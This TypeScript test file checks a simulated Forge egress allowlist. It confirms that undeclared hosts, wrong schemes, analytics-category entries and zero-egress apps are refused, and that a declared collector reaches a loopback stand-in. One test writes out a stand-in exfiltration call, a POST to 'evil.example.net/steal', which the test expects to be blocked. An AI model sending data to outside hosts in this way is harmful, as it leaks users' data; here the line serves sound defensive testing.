import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fetch as forgeFetch } from '@forge/api';
import { type SimPlatform } from '@usage-reporting/forge-sim';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createReferencePlatform, REFERENCE_MANIFEST } from '../support/reference-app';

const COLLECTOR = 'https://collector.usage-reporting.example.com';

interface Received {
  method: string;
  url: string;
  body: string;
}

let server: Server;
let baseUrl: string;
let received: Received[];

beforeAll(async () => {
  server = createServer((req: IncomingMessage, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString('utf8')));
    req.on('end', () => {
      received.push({ method: req.method ?? '', url: req.url ?? '', body });
      res.writeHead(202, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ accepted: true }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

let platform: SimPlatform;
beforeEach(() => {
  received = [];
  platform = createReferencePlatform({ egressTargets: { [COLLECTOR]: baseUrl } });
});
afterEach(() => platform.close());

const inInvocation = <T>(fn: () => Promise<T>) => platform.runAsInvocation({ functionKey: 'scheduled' }, fn);

describe('egress from app code through @forge/api fetch', () => {
  test('a host not declared in manifest.yml is refused with Forge’s error, and nothing is sent', async () => {
    const attempt = inInvocation(() => forgeFetch('https://evil.example.net/steal', { method: 'POST', body: 'x' }));
    await expect(attempt).rejects.toMatchObject({
      name: 'REQUEST_EGRESS_ALLOWLIST_ERR',
      status: 403,
      message:
        'URL not included in the external fetch backend permissions: https://evil.example.net/steal. Visit go.atlassian.com/forge-egress for more information.'
    });
    expect(received).toEqual([]);
    expect(platform.counters.snapshot().egress).toEqual({});
  });

  test('the declared collector host reaches its loopback stand-in, path, method and body intact', async () => {
    const res = await inInvocation(() =>
      forgeFetch(`${COLLECTOR}/v1/reports?x=1`, { method: 'POST', body: '{"a":1}', headers: { 'content-type': 'application/json' } })
    );
    expect(res.status).toBe(202);
    expect(await res.json()).toEqual({ accepted: true });
    expect(received).toEqual([{ method: 'POST', url: '/v1/reports?x=1', body: '{"a":1}' }]);
    expect(platform.counters.snapshot().egress).toEqual({ [COLLECTOR]: 1 });
  });

  test('matching is by scheme too: http:// to the declared https host is refused', async () => {
    await expect(inInvocation(() => forgeFetch('http://collector.usage-reporting.example.com/v1/reports'))).rejects.toMatchObject({
      name: 'REQUEST_EGRESS_ALLOWLIST_ERR'
    });
  });

  test('a declared host with no loopback target fails like an unresolvable host', async () => {
    const bare = createReferencePlatform();
    try {
      const attempt = bare.runAsInvocation({ functionKey: 'scheduled' }, () => forgeFetch(`${COLLECTOR}/v1/reports`));
      await expect(attempt).rejects.toMatchObject({ name: 'TypeError', message: 'fetch failed', cause: { code: 'ENOTFOUND' } });
    } finally {
      bare.close();
    }
  });

  test('the site admin’s analytics egress switch leaves the plainly declared collector alone (it drops only `category: analytics` entries)', async () => {
    expect(platform.egress.declaresAnalyticsEgress).toBe(false);
    platform.egress.setAnalyticsEgressAllowed(false);
    expect((await inInvocation(() => forgeFetch(`${COLLECTOR}/v1/reports`, { method: 'POST', body: '{}' }))).status).toBe(202);
    expect(received).toHaveLength(1);
  });

  test('with the analytics switch off, an entry declared `category: analytics` is refused like an undeclared host', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'egress-analytics-'));
    const manifestPath = path.join(dir, 'manifest.yml');
    writeFileSync(manifestPath, readFileSync(REFERENCE_MANIFEST, 'utf8').replace('inScopeEUD: false', 'category: analytics\n          inScopeEUD: false'));
    const analytics = createReferencePlatform({ manifestPath, egressTargets: { [COLLECTOR]: baseUrl } });
    try {
      expect(analytics.egress.declaresAnalyticsEgress).toBe(true);
      analytics.egress.setAnalyticsEgressAllowed(false);
      const attempt = analytics.runAsInvocation({ functionKey: 'scheduled' }, () => forgeFetch(`${COLLECTOR}/v1/reports`, { method: 'POST', body: '{}' }));
      await expect(attempt).rejects.toMatchObject({ name: 'REQUEST_EGRESS_ALLOWLIST_ERR' });
      expect(received).toEqual([]);
    } finally {
      analytics.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });

  test('test code outside an invocation uses the machine’s fetch, not the sandbox', async () => {
    const res = await fetch(`${baseUrl}/direct`);
    expect(res.status).toBe(202);
    expect(platform.counters.snapshot().egress).toEqual({});
  });
});

describe('a zero-egress app (its manifest declares no permissions.external)', () => {
  let dir: string;
  let zero: SimPlatform;
  beforeEach(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'zero-egress-'));
    const manifestPath = path.join(dir, 'manifest.yml');
    const manifest = readFileSync(REFERENCE_MANIFEST, 'utf8');
    writeFileSync(manifestPath, manifest.slice(0, manifest.indexOf('  external:\n')));
    zero = createReferencePlatform({ manifestPath, egressTargets: { [COLLECTOR]: baseUrl } });
  });
  afterEach(() => {
    zero.close();
    rmSync(dir, { recursive: true, force: true });
  });

  test('every egress attempt throws Forge’s refusal, reaches nothing, and is recorded as a violation a suite can assert on', async () => {
    const attempt = zero.runAsInvocation({ functionKey: 'scheduled' }, () => forgeFetch(`${COLLECTOR}/v1/reports`, { method: 'POST', body: '{}' }));
    await expect(attempt).rejects.toMatchObject({ name: 'REQUEST_EGRESS_ALLOWLIST_ERR', status: 403, violation: 'zero-egress' });
    expect(received).toEqual([]);
    expect(zero.egressViolations).toEqual([{ url: `${COLLECTOR}/v1/reports`, functionKey: 'scheduled', at: expect.any(String) }]);
    // Attempts count as egress, so "0 egress calls" covers them too.
    expect(zero.counters.total('egress')).toBe(1);
  });

  test('an app that makes no attempt leaves no violation and no egress count', async () => {
    await zero.runAsInvocation({ functionKey: 'scheduled' }, async () => undefined);
    expect(zero.egressViolations).toEqual([]);
    expect(zero.counters.total('egress')).toBe(0);
  });
});
